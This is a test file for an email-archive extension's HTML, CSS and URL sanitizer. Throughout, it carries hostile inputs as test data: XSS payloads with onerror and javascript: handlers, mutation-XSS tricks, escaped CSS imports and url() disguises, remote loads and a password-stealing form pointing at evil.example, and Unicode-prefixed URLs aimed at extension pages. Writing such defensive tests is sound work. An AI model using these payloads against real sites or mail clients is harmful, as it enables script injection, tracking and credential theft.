// The message sanitizer against hostile HTML: nothing executes, nothing remote loads before consent.
import { describe, expect, it } from 'vitest';
import { sanitizeCss } from '@/entrypoints/archive/reader/css';
import { BLOCKED_IMAGE, sanitizeMailHtml } from '@/entrypoints/archive/reader/sanitize';
import { buildSrcdoc, mailCsp } from '@/entrypoints/archive/reader/srcdoc';
import { classifyUrl, linkUrl, remoteUrl } from '@/entrypoints/archive/reader/urls';

const BLOCKED = { allowRemote: false };
const ALLOWED = { allowRemote: true };

function clean(html: string, options = BLOCKED) {
  const result = sanitizeMailHtml(html, options);
  const serialized = result.doc.documentElement.outerHTML;
  return { ...result, serialized, body: result.doc.body };
}

/** Every attribute and CSS text of the output, to look for anything that could run or fetch. */
function everything(doc: Document): string[] {
  const out: string[] = [];
  for (const element of Array.from(doc.querySelectorAll('*'))) {
    out.push(element.localName);
    for (const attribute of Array.from(element.attributes)) out.push(`${attribute.name}=${attribute.value}`);
    if (element.localName === 'style') out.push(element.textContent ?? '');
  }
  return out;
}

const REMOTE = /https?:|\/\/evil/i;

describe('URL classification', () => {
  it('reads the scheme as browsers do, ignoring spaces and control characters', () => {
    expect(classifyUrl('https://evil.example/a.png')).toBe('remote');
    expect(classifyUrl('  HTTP://evil.example')).toBe('remote');
    expect(classifyUrl('//evil.example/a.png')).toBe('remote');
    expect(classifyUrl('\\\\evil.example/a.png')).toBe('remote');
    expect(classifyUrl('java\tscript:alert(1)')).toBe('unsafe');
    expect(classifyUrl('\u0001javascript:alert(1)')).toBe('unsafe');
    expect(classifyUrl('JaVaScRiPt:alert(1)')).toBe('unsafe');
    expect(classifyUrl('vbscript:msgbox')).toBe('unsafe');
    expect(classifyUrl('data:text/html,<script>alert(1)</script>')).toBe('unsafe');
    expect(classifyUrl('data:image/svg+xml,<svg onload=alert(1)>')).toBe('unsafe');
    expect(classifyUrl('data:image/png;base64,AAAA')).toBe('data-image');
    expect(classifyUrl('cid:logo@example')).toBe('cid');
    expect(classifyUrl('mailto:a@example.it')).toBe('link');
    // A fragment resolves against the frame's base, which is the extension's own archive page: never kept.
    expect(classifyUrl('#section')).toBe('unsafe');
    expect(classifyUrl('relative/path.png')).toBe('unsafe');
    expect(classifyUrl('chrome-extension://abc/popup.html')).toBe('unsafe');
    expect(remoteUrl('http://example.it/a.png')).toBe('https://example.it/a.png');
    expect(remoteUrl('//example.it/a.png')).toBe('https://example.it/a.png');
    expect(remoteUrl('ftp://example.it/a.png')).toBeNull();
  });

  it('refuses what the URL parser reads as relative, whatever a looser reading of the scheme would say', () => {
    // Characters browsers keep in a URL (they are not C0 or space) make these relative to the extension's pages.
    for (const prefix of ['\u0085', '\u00a0', '\u2028', '\u2029', '\ufeff', '\u007f', '\u009f']) {
      for (const scheme of [
        'mailto:/../../postmaster.html#view=bulk&mailbox=mario.rossi@example.it',
        'data:image/png,/../../x.png',
        'cid:/../x',
        'https://e.x/',
      ]) {
        expect(classifyUrl(`${prefix}${scheme}`), JSON.stringify(prefix + scheme)).toBe('unsafe');
      }
    }
  });

  it('writes back the parsed URL, never the raw text', () => {
    expect(linkUrl('  mailto:mario@example.it ')).toBe('mailto:mario@example.it');
    expect(linkUrl('https://example.it/a b"c')).toBe('https://example.it/a%20b%22c');
    expect(linkUrl('HTTPS://EXAMPLE.IT\\x')).toBe('https://example.it/x');
    expect(linkUrl('java\nscript:alert(1)')).toBeNull();
  });
});

describe('HTML sanitizer: scripts and active content', () => {
  it('drops script, iframe, object, embed, form controls, base, link, meta refresh, svg and math with their content', () => {
    const { body, doc, serialized } = clean(`
      <head><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/x.css"><script>alert('head')</script></head>
      <body><p>Ciao</p><script>alert(1)</script><iframe src="https://evil.example"></iframe>
      <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
      <form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Invia</button></form>
      <svg><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>
      <math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>
      <noscript><img src=x onerror=alert(5)></noscript><template><img src=x onerror=alert(6)></template>
      <video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>
      <audio src="https://evil.example/a.mp3"></audio><portal src="https://evil.example"></portal></body>`);
    expect(body.textContent).toContain('Ciao');
    for (const tag of [
      'script',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'button',
      'svg',
      'math',
      'noscript',
      'template',
      'video',
      'audio',
      'source',
      'base',
      'link',
      'portal',
    ]) {
      expect(doc.querySelector(tag), tag).toBeNull();
    }
    expect(doc.querySelectorAll('meta')).toHaveLength(0);
    expect(serialized).not.toMatch(/alert|evil\.example|onerror|xlink/i);
  });

  it('removes every event handler and unknown attribute, whatever its case or spelling', () => {
    const { doc, serialized } = clean(`
      <div onclick="alert(1)" ONMOUSEOVER="alert(2)" onfocus=alert(3) tabindex="1" autofocus contenteditable>a</div>
      <img src="data:image/png;base64,AAAA" onerror="alert(4)" onload="alert(5)">
      <a href="https://example.it" ping="https://evil.example/ping" onclick="alert(6)">link</a>
      <body onload="alert(7)"><details open ontoggle="alert(8)"><summary>s</summary></details>
      <p style="color:red" data-x="1" is="x-evil" slot="s" formaction="javascript:alert(9)">p</p>`);
    expect(serialized).not.toMatch(/alert|onerror|onload|onclick|ping|contenteditable|autofocus|tabindex|formaction|is=/i);
    for (const element of Array.from(doc.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) expect(attribute.name).not.toMatch(/^on/i);
    }
    expect(doc.querySelector('details')?.hasAttribute('open')).toBe(true);
  });

  it('keeps only web, mail and phone links, opening them outside the frame without referrer', () => {
    const { doc } = clean(`
      <a id="a" href="javascript:alert(1)">1</a><a id="b" href=" java&#x09;script:alert(1)">2</a>
      <a id="c" href="data:text/html,<script>alert(1)</script>">3</a><a id="d" href="vbscript:x">4</a>
      <a id="e" href="https://example.it/page">5</a><a id="f" href="mailto:mario@example.it">6</a>
      <a id="g" href="#top">7</a><a id="h" href="//example.it/x">8</a><a id="i" href="file:///etc/passwd">9</a><a id="k" href="http://example.it/solo-http">10</a>
      <area id="j" href="javascript:alert(1)">`);
    for (const id of ['a', 'b', 'c', 'd', 'g', 'i', 'j']) expect(doc.getElementById(id)?.hasAttribute('href'), id).toBe(false);
    expect(doc.getElementById('e')?.getAttribute('href')).toBe('https://example.it/page');
    expect(doc.getElementById('e')?.getAttribute('target')).toBe('_blank');
    expect(doc.getElementById('e')?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(doc.getElementById('f')?.getAttribute('href')).toBe('mailto:mario@example.it');
    expect(doc.getElementById('g')?.textContent).toBe('7');
    expect(doc.getElementById('h')?.getAttribute('href')).toBe('https://example.it/x');
    // A link is followed by choice, in a new tab: it keeps its http (images, which load by themselves, do not).
    expect(doc.getElementById('k')?.getAttribute('href')).toBe('http://example.it/solo-http');
  });

  it('keeps text that looks like markup as text', () => {
    const { doc, serialized } = clean('<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; <b>bold</b></p>');
    expect(doc.querySelector('script')).toBeNull();
    expect(doc.querySelector('p')?.textContent).toBe('<script>alert(1)</script> & bold');
    expect(serialized).toContain('&lt;script&gt;');
  });

  it('survives mutation tricks: comments, CDATA, broken nesting, namespace confusion', () => {
    const { serialized, doc } = clean(`
      <!--<img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(2)>]]>
      <p title="</p><img src=x onerror=alert(3)>">t</p>
      <svg></p><style><a id="</style><img src=x onerror=alert(4)>">
      <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)>
      <noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>
      <table><td><style><img src=x onerror=alert(7)></style></td></table>`);
    const parsedAgain = new DOMParser().parseFromString(serialized, 'text/html');
    for (const element of Array.from(parsedAgain.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) expect(attribute.name, serialized).not.toMatch(/^on/i);
    }
    expect(parsedAgain.querySelector('script, svg, math, iframe')).toBeNull();
    expect(doc.querySelector('p')?.getAttribute('title')).toBe('</p><img src=x onerror=alert(3)>');
  });

  it('takes absurdly deep nesting without overflowing the stack', () => {
    const depth = 600; // jsdom's own parser cannot take much more
    const { doc } = clean(`${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}`);
    expect(doc.body.textContent).toContain('deep');
  });

  it('lets no link or image of a message lead to the extension, however its URL is disguised', () => {
    const disguises = ['\u0085', '\u00a0', '\u2028', '\ufeff', '\u0080'];
    const html = disguises
      .map(
        (prefix, n) =>
          `<a id="l${n}" href="${prefix}mailto:/../../postmaster.html#view=bulk&amp;mailbox=mario.rossi@example.it">APRI</a>` +
          `<img id="i${n}" src="${prefix}data:image/png,/../../x.png"><img id="c${n}" src="${prefix}cid:/../../archive.html">` +
          `<a id="r${n}" href="${prefix}/postmaster.html">x</a><a id="f${n}" href="${prefix}#view=bulk">y</a>`,
      )
      .join('');
    const { doc } = clean(
      `<p>${html}</p><a id="rel" href="postmaster.html#view=disable">z</a><a id="abs" href="chrome-extension://abc/postmaster.html">w</a>`,
    );
    for (const element of Array.from(doc.querySelectorAll('a, img'))) {
      for (const name of ['href', 'src', 'srcset']) {
        const value = element.getAttribute(name);
        if (value === null) continue;
        // Whatever is left must be absolute on its own: resolving it against our pages changes nothing.
        expect(new URL(value, 'chrome-extension://abc/archive.html').href, `${element.id} ${name}`).not.toMatch(/^chrome-extension:/);
        expect(value, element.id).toMatch(/^(mailto|data|cid|https?):/);
      }
    }
    // A disguise DOMPurify trims away leaves a real mailto: link (it opens the mail program, not our pages).
    for (const link of Array.from(doc.querySelectorAll('a[href]'))) expect(link.getAttribute('href')).toMatch(/^mailto:/);
    for (const id of ['rel', 'abs', 'r0', 'f0', 'l0']) expect(doc.getElementById(id)?.hasAttribute('href'), id).toBe(false);
  });
});

describe('HTML sanitizer: remote content', () => {
  const hostile = `
    <body background="https://evil.example/body.png">
    <img id="img" src="https://evil.example/pixel.gif" width="1" height="1">
    <img id="proto" src="//evil.example/p.gif">
    <img id="set" srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
    <img id="inline" src="data:image/png;base64,iVBORw0KGgo=">
    <img id="cid" src="cid:logo@example">
    <img id="rel" src="images/local.png">
    <table background="http://evil.example/t.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>
    <div id="styled" style="background:url(https://evil.example/bg.png); color: red">s</div>
    <style>@import url("https://evil.example/x.css"); .a { background-image: url('//evil.example/c.png') }</style>
    </body>`;

  it('replaces every remote reference with a placeholder and counts them until consent', () => {
    const { doc, blockedRemote } = clean(hostile, BLOCKED);
    expect(everything(doc).join('\n')).not.toMatch(REMOTE);
    expect(doc.getElementById('img')?.getAttribute('src')).toBe(BLOCKED_IMAGE);
    expect(doc.getElementById('img')?.hasAttribute('data-archivio-blocked')).toBe(true);
    expect(doc.getElementById('proto')?.getAttribute('src')).toBe(BLOCKED_IMAGE);
    expect(doc.getElementById('set')?.hasAttribute('srcset')).toBe(false);
    expect(doc.getElementById('inline')?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(doc.getElementById('cid')?.getAttribute('src')).toBe('cid:logo@example');
    expect(doc.getElementById('rel')?.hasAttribute('src')).toBe(false);
    expect(doc.getElementById('styled')?.getAttribute('style')).toContain('color: red');
    // body background, img, proto, srcset, table, td, inline style, the style sheet's @import and url()
    expect(blockedRemote).toBe(9);
  });

  it('lets http(s) images through once the user consents, still without imports or scripts', () => {
    const { doc, blockedRemote, serialized } = clean(hostile, ALLOWED);
    expect(blockedRemote).toBe(0);
    expect(doc.getElementById('img')?.getAttribute('src')).toBe('https://evil.example/pixel.gif');
    expect(doc.getElementById('proto')?.getAttribute('src')).toBe('https://evil.example/p.gif');
    expect(doc.getElementById('set')?.getAttribute('srcset')).toBe('https://evil.example/a.png 1x, https://evil.example/b.png 2x');
    expect(doc.body.getAttribute('background')).toBe('https://evil.example/body.png');
    // Plain http is upgraded: a consented image still never travels unencrypted.
    expect(doc.querySelector('table')?.getAttribute('background')).toBe('https://evil.example/t.png');
    expect(doc.getElementById('styled')?.getAttribute('style')).toContain('url("https://evil.example/bg.png")');
    expect(serialized).not.toMatch(/@import|x\.css/);
    expect(doc.getElementById('rel')?.hasAttribute('src')).toBe(false);
  });
});

describe('CSS sanitizer', () => {
  const css = (text: string, allowRemote = false) => {
    const counter = { blocked: 0 };
    return { text: sanitizeCss(text, { allowRemote }, counter), blocked: counter.blocked };
  };

  it('removes imports, also when hidden by escapes or comments', () => {
    expect(css('@import "https://evil.example/a.css"; p{color:red}').text).toBe(' p{color:red}');
    // A brace inside the import's string is text to CSS, not the start of a block.
    const braced = css('@import "https://evil.example/x{.css"; p{color:red}');
    expect(braced.text).toBe(' p{color:red}');
    expect(braced.blocked).toBe(1);
    expect(css("@media screen { @import 'https://evil.example/y}.css'; } p{}").text).not.toMatch(/evil|import/i);
    expect(css('@import "https://evil.example/unclosed.css\n p{color:red}').text).not.toMatch(/evil/);
    expect(css('@\\69mport url(https://evil.example/a.css); p{}').text).not.toMatch(/import|evil/i);
    expect(css('@imp/**/ort url(https://evil.example/a.css);').text).not.toMatch(/evil/);
    expect(css('@imp@import x;ort url(https://evil.example/b.css);', true).text).not.toMatch(/import/i);
  });

  it('blocks url() in all its disguises', () => {
    for (const hostile of [
      'a{background:url(https://evil.example/1.png)}',
      'a{background:URL( "https://evil.example/2.png" )}',
      "a{background:url('//evil.example/3.png')}",
      'a{background:\\75 rl(https://evil.example/4.png)}',
      'a{background:u\\72l(https://evil.example/5.png)}',
      'a{background:url(https://evil.example/6.png\\)}',
      'a{background:image-set("https://evil.example/7.png" 1x)}',
      'a{background:-webkit-image-set("https://evil.example/8.png" 1x)}',
      'a{background:src("https://evil.example/9.png")}',
      '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
      'a{list-style:url(https://evil.example/l.png)} b{cursor:url(https://evil.example/c.cur),auto}',
    ]) {
      const { text } = css(hostile);
      expect(text, hostile).not.toMatch(/evil\.example/);
      expect(text, hostile).not.toMatch(/url\(|image-set\(|src\(/i);
    }
  });

  it('neutralizes script hooks and anything that could close the style element', () => {
    const { text } = css('a{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#y)} </style><script>alert(1)</script>');
    expect(text).not.toMatch(/expression\(|behavior:|-moz-binding:|<\/style|<script/i);
  });

  it('leaves no script scheme in CSS outside url() either: custom properties, strings, escaped spellings', () => {
    for (const hostile of [
      'p{--x:javascript:alert(1)}',
      'p::after{content:"javascript:alert(1)"}',
      'p{--y: VBScript :msgbox}',
      'p{--z:java\\73 cript:alert(1)}',
      'p{--w:java/**/script:alert(1)}',
    ]) {
      expect(css(hostile).text, hostile).not.toMatch(/(java|vb)script\s*:/i);
      expect(css(hostile, true).text, hostile).not.toMatch(/(java|vb)script\s*:/i);
    }
    const { doc } = clean('<p id="p" style="--x:javascript:alert(1);color:red">x</p>');
    expect(doc.getElementById('p')?.getAttribute('style')).not.toMatch(/javascript/i);
    expect(doc.getElementById('p')?.getAttribute('style')).toContain('color:red');
    // A kept URL is a parsed one and is left as it is.
    expect(css('a{background:url(https://example.it/javascript:x.png)}', true).text).toContain('url("https://example.it/javascript:x.png")');
  });

  it('keeps ordinary styling and inline data images', () => {
    const { text, blocked } = css('p { color: #333; font: 14px Arial; background: url(data:image/png;base64,AAAA) }');
    expect(text).toContain('color: #333');
    expect(text).toContain('url("data:image/png;base64,AAAA")');
    expect(blocked).toBe(0);
  });
});

describe('srcdoc', () => {
  it('puts the strict policy first in the head, relaxed only for images when allowed', () => {
    const blocked = buildSrcdoc(sanitizeMailHtml('<p>x</p><img src="https://evil.example/a.png">', BLOCKED), false);
    const doc = new DOMParser().parseFromString(blocked, 'text/html');
    const first = doc.head.firstElementChild;
    expect(first?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
    expect(first?.getAttribute('content')).toBe(mailCsp(false));
    expect(mailCsp(false)).toMatch(/^default-src 'none';/);
    expect(mailCsp(false)).not.toMatch(/https?:/);
    expect(mailCsp(false)).not.toMatch(/script-src/);
    expect(mailCsp(true)).toContain('img-src data: cid: https:;');
    expect(mailCsp(true)).toMatch(/^default-src 'none';/);
    expect(blocked).not.toContain('evil.example');
  });
});
